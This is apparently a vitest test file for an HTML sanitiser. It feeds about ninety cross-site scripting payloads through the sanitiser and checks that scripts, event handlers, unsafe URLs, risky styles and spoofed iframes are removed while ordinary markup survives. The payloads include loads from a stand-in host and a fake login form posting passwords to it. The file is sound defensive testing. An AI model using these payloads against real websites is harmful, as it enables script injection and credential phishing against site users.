import { withDOM } from '@lexical/headless/dom'
import { describe, expect, test } from 'vitest'
import { sanitiseFragment, sanitisePage } from './sanitise.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/x 1x">',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java&#x09;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="https://x" onclick="alert(1)">x</a>',
  '<a href="https://x" style="position:fixed;inset:0">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com:8443/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe src="http://www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" allow="camera" name="parent"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<isindex action="javascript:alert(1)">',
  '<style>body{display:none}</style>',
  '<style>@import url(https://evil.example)</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p style="background-image:image-set(\'https://evil.example\' 1x)">x</p>',
  '<p style="b\\61 ckground:url(x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:absolute;top:0;left:0;z-index:9999">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="-moz-binding:url(x)">x</p>',
  '<div id="root" class="login-form" data-support="open">x</div>',
  '<div data-film="vimeo" data-film-id="../../evil">x</div>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<dialog open>Session expired</dialog>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src="https://x.example/a.mp4" onloadstart=alert(1) poster="javascript:alert(1)"></video>',
  '<video><source src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>x</body>',
  '<html onmouseover=alert(1)>x</html>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td background="https://evil.example">x</td></tr></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p title="><script>alert(1)</script>">x</p>',
  '<a href="https://x" title=\'"><img src=x onerror=alert(1)>\'>x</a>',
  '"><script>alert(1)</script>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a id="x" name="cookie" href="https://x">x</a><a id="x" name="forms">y</a>',
  '<slot onslotchange=alert(1)></slot><custom-element onclick=alert(1)></custom-element>',
  '<p is="evil-element" contenteditable onbeforeinput=alert(1)>x</p>',
  `${'<div>'.repeat(5000)}<script>alert(1)</script>`,
  `<p title="${'x'.repeat(100_000)}" onclick=alert(1)>x</p>`,
]

const forbiddenElements =
  'script,style,link,meta,base,object,embed,applet,form,input,button,select,option,textarea,template,svg,math,audio,source,dialog,frame,frameset,marquee,title,noscript,body,html,custom-element,slot'

describe.each([
  ['a fragment', sanitiseFragment],
  ['a page', sanitisePage],
])('%s', (_name, sanitise) => {
  test.each(attacks.map((html) => [html.slice(0, 90), html] as const))('%s', (_short, html) => {
    const clean = sanitise(html)
    const found = withDOM((window) => {
      const holder = window.document.createElement('div')
      holder.innerHTML = clean
      const all = [...holder.querySelectorAll('*')]
      return {
        elements: [...holder.querySelectorAll(forbiddenElements)].map(({ tagName }) => tagName),
        handlers: all.flatMap((one) =>
          one.getAttributeNames().filter((name) => /^on|srcdoc|formaction|^is$/i.test(name)),
        ),
        addresses: all
          .flatMap((one) =>
            ['href', 'src', 'poster', 'background', 'srcset'].map((name) => one.getAttribute(name)),
          )
          .filter(
            (value) => value && /evil|script:|^\s*data:(?!image\/(?:png|jpe?g|gif|webp|avif);)/i.test(value),
          ),
        styles: all
          .map((one) => one.getAttribute('style') ?? '')
          .filter((style) => /url|position|z-index|image-set|expression|@|\\/i.test(style)),
        ids: all.map(({ id }) => id).filter((id) => id !== '' && !id.startsWith('page-')),
      }
    })
    expect(found).toEqual({ elements: [], handlers: [], addresses: [], styles: [], ids: [] })
    expect(sanitise(clean)).toBe(clean)
  })
})

test.each([
  '<p>Hello <strong>world</strong></p>',
  '<h2 style="text-align: center;">Title</h2>',
  '<ul><li>One</li><li>Two</li></ul>',
  '<ol start="3"><li>Three</li></ol>',
  '<a href="https://example.com">link</a>',
  '<a href="mailto:ann@example.com">mail</a>',
  '<a href="/contact">relative</a>',
  '<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>',
  '<img alt="" src="https://example.com/a.png" />',
  '<blockquote>Quote</blockquote>',
  '<pre><code>a &lt; b</code></pre>',
  '<details open><summary>More</summary><p>text</p></details>',
  '<p style="color: #b3261e; font-size: 20px;">red</p>',
  '<p lang="de">Straße &amp; Co.</p>',
  '<p>😀 e\u0301 \u05e9\u05dc\u05d5\u05dd</p>',
  '<hr />',
])('harmless HTML stays: %s', (html) => {
  expect(sanitiseFragment(html)).toBe(html)
})

test('a frame of a known site is kept in a sandbox, without cookies where there is a choice', () => {
  const html = sanitiseFragment(
    '<iframe width="560" src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  )
  expect(html).toContain('src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"')
  expect(html).toContain('sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"')
})

test('HTML of authors cannot pose as a node of ours', () => {
  const html = '<div class="page-poll" data-poll="Which?"><li data-option="a">A</li></div>'
  expect(sanitiseFragment(html)).not.toMatch(/class|data-/)
  expect(sanitisePage(html)).toBe(
    html.replace('class="page-poll" data-poll="Which?"', 'data-poll="Which?" class="page-poll"'),
  )
})

test('names of authors stay apart from those of the site', () => {
  expect(sanitiseFragment('<p id="root">x</p><a href="#root">y</a>')).toBe(
    '<p id="page-root">x</p><a href="#page-root">y</a>',
  )
})
